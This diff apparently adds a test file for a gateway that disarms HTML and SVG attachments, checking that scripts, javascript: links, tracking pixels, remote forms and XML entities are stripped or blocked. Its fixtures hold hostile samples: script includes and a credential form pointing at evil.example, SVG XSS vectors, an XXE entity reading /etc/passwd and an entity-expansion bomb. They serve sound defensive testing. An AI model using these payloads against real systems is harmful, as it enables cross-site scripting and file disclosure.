@@ -1,0 +1,182 @@
+"""HTML (nh3) and SVG (defusedxml) attachments: exact findings, lxml as the independent check."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+import gateway.stages.html
+import gateway.stages.svg  # noqa: F401 - registers the stages
+from gateway.models import Verdict
+from gateway.pipeline.run import process_file
+from gateway.policy import load
+from tests.conftest import check_report_schema, corpus_dir
+from tests.helpers.markupcheck import html_problems, html_text, svg_problems
+
+DEFAULT, STRICT = load("default"), load("strict")
+
+PAGE = """<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>お知らせ</title>
+<script src="https://evil.example/x.js"></script>
+<link rel="stylesheet" href="https://evil.example/s.css">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<style>body { background: url(https://track.example/p.gif) }</style>
+</head>
+<body onload="steal()">
+<h1>住民税の申告について</h1>
+<p style="color: red; background-image: url(https://track.example/b.gif)">期限は3月15日です。</p>
+<p><a href="https://www.city.example.lg.jp/zei">詳しくはこちら</a>
+<a href="javascript:alert(1)">クリック</a></p>
+<img src="https://track.example/pixel.gif" width="1" height="1">
+<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
+<iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/post"><input name="pw" type="password"></form>
+<noscript><img src="https://track.example/ns.gif"></noscript>
+<p>以上</p>
+</body></html>
+"""
+
+
+def run(tmp_path: Path, data: bytes, name: str, policy=DEFAULT):
+    src, out = tmp_path / name, tmp_path / ("out-" + name)
+    src.write_bytes(data)
+    report = process_file(src, out, policy=policy)
+    check_report_schema(report)
+    return report, out
+
+
+def keys(report) -> set[tuple[str, str]]:
+    return {(f.kind, f.location) for f in report.items[0].findings}
+
+
+def test_html_page(tmp_path: Path) -> None:
+    report, out = run(tmp_path, PAGE.encode(), "notice.html")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {
+        ("html.script", "script[0]"),
+        ("html.remote_resource", "link[0]"),
+        ("html.meta_refresh", "meta[1]"),
+        ("html.remote_resource", "style[0]"),
+        ("html.event_handler", "body[0]@onload"),
+        ("html.remote_resource", "p[0]@style"),
+        ("html.hyperlink", "a[0]@href"),
+        ("html.javascript_url", "a[1]@href"),
+        ("html.remote_resource", "img[0]@src"),
+        ("html.frame", "iframe[0]"),
+        ("html.form", "form[0]"),
+        ("html.form", "input[0]"),
+        ("html.remote_resource", "img[2]@src"),
+    }
+    kept = [f for f in report.items[0].findings if f.action == "kept"]
+    assert [(f.kind, f.location) for f in kept] == [("html.hyperlink", "a[0]@href")]
+    assert html_problems(out) == []
+    text = html_text(out)
+    for phrase in ("住民税の申告について", "期限は3月15日です。", "詳しくはこちら", "以上"):
+        assert phrase in text
+    html = out.read_text(encoding="utf-8")
+    assert 'href="https://www.city.example.lg.jp/zei"' in html
+    assert "<title>お知らせ</title>" in html
+    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html
+
+
+def test_html_links_removed_under_strict(tmp_path: Path) -> None:
+    report, out = run(tmp_path, PAGE.encode(), "notice.html", policy=STRICT)
+    assert report.verdict is Verdict.DISARMED
+    assert ("html.hyperlink", "a[0]@href") in keys(report)
+    assert html_problems(out, allow_links=False) == []
+    assert "詳しくはこちら" in html_text(out)
+
+
+def test_html_shift_jis_is_read_without_mojibake(tmp_path: Path) -> None:
+    page = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">'
+            "</head><body><p>髙橋様　①㈱ご確認ください</p></body></html>")
+    report, out = run(tmp_path, page.encode("cp932"), "sjis.html")
+    assert report.verdict is Verdict.CLEAN
+    assert "髙橋様　①㈱ご確認ください" in out.read_text(encoding="utf-8")
+
+
+def test_clean_html_stays_clean(tmp_path: Path) -> None:
+    page = ("<html><body><p>こんにちは <b>世界</b></p>"
+            "<table><tr><td>1</td></tr></table></body></html>")
+    report, out = run(tmp_path, page.encode(), "ok.html")
+    assert report.verdict is Verdict.CLEAN
+    assert html_text(out) == "こんにちは 世界1"
+
+
+SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
+<?xml-stylesheet href="https://evil.example/s.css" type="text/css"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+     width="100" height="100" onload="alert(1)">
+  <script>alert(2)</script>
+  <style>@import url(https://evil.example/x.css);</style>
+  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
+  <rect width="100" height="100" fill="url(#g)"/>
+  <circle cx="5" cy="5" r="4" fill="url(https://track.example/p)"/>
+  <image xlink:href="https://track.example/i.png" width="10" height="10"/>
+  <image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>
+  <use xlink:href="#g"/>
+  <a xlink:href="javascript:alert(3)"><text x="1" y="20">click</text></a>
+  <a href="https://www.city.example.lg.jp/">
+    <text x="1" y="40">\xe5\xb8\x82\xe5\xbd\xb9\xe6\x89\x80</text></a>
+  <set attributeName="href" to="javascript:alert(4)"/>
+  <foreignObject width="10" height="10">
+    <iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
+</svg>
+"""
+
+
+def test_svg(tmp_path: Path) -> None:
+    report, out = run(tmp_path, SVG, "map.svg")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {
+        ("svg.processing_instruction", "?xml-stylesheet"),
+        ("svg.event_handler", "svg[root]@onload"),
+        ("svg.script", "script[0]"),
+        ("svg.stylesheet", "style[0]"),
+        ("svg.external_reference", "circle[0]@fill"),
+        ("svg.external_reference", "image[0]@xlink:href"),
+        ("svg.javascript_url", "a[0]@xlink:href"),
+        ("svg.hyperlink", "a[1]@href"),
+        ("svg.animation", "set[0]"),
+        ("svg.foreign_object", "foreignObject[0]"),
+    }
+    assert svg_problems(out) == []
+    text = out.read_text(encoding="utf-8")
+    assert "市役所" in text and 'fill="url(#g)"' in text and 'xlink:href="#g"' in text
+
+
+@pytest.mark.parametrize("payload", [
+    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
+    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
+])
+def test_svg_entities_are_blocked(tmp_path: Path, payload: bytes) -> None:
+    report, out = run(tmp_path, payload, "x.svg")
+    assert report.verdict is Verdict.BLOCKED
+    assert report.reason == "SVG declares XML entities (XXE or entity expansion)"
+    assert not out.exists()
+
+
+@pytest.mark.slow
+def test_corpus_html_svg(tmp_path: Path) -> None:
+    files = sorted(p for p in (corpus_dir() / "e_html_svg").rglob("*") if p.is_file())
+    expected_blocked = {
+        # not well-formed XML: no SVG viewer renders them either
+        "SVG_XSS2.svg": "SVG is not well-formed XML",
+        "SVG_XSS3.svg": "SVG is not well-formed XML",
+        # a MIME web archive: routed to the mail family, whose stage is not built yet
+        "testMHTMLFirefox.mhtml": "no disarm stage for mail.eml yet",
+    }
+    blocked = {}
+    for path in files:
+        out = tmp_path / path.name
+        report = process_file(path, out, policy=DEFAULT)
+        if report.verdict.delivered:
+            assert report.output is not None
+            check = svg_problems if report.output.type == "svg" else html_problems
+            assert check(out) == [], path.name
+        else:
+            blocked[path.name] = report.reason or ""
+    assert {k: v.split(" (")[0] for k, v in blocked.items()} == expected_blocked
